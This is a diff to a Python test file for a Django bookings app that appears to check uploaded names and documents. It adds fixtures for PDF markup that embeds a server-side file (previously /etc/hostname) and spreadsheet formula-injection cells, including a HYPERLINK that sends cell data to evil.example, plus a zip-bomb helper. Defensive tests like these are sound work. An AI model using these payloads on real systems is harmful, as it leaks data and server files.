@@ -13,6 +13,7 @@ import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from PIL import Image
 
 from bookings.models import Status
 from bookings.uploads import check_document
@@ -23,10 +24,17 @@ MEMORY_BOUND = 50 * 1024 * 1024
 
 # A name that is reportlab markup, and one that would embed a server-side file into a PDF.
 MARKUP_NAME = "O<Brien"
-IMAGE_NAME = '<img src="/etc/hostname" width="50" height="50"/>Tolk'
+IMAGE_MARKUP = '<img src="{path}" width="40" height="40"/>'
 # Cells a spreadsheet would run as formulas.
 FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
 NUL = "\x00"
+
+
+def server_image(directory) -> str:
+    """A file on the server that markup could embed: a real JPEG, so an embedding would show in the PDF."""
+    path = directory / "server-secret.jpg"
+    Image.new("RGB", (8, 8), "red").save(path, "JPEG")
+    return str(path)
 
 
 def zip_bomb(members: dict[str, bytes], bomb_member: str) -> bytes:
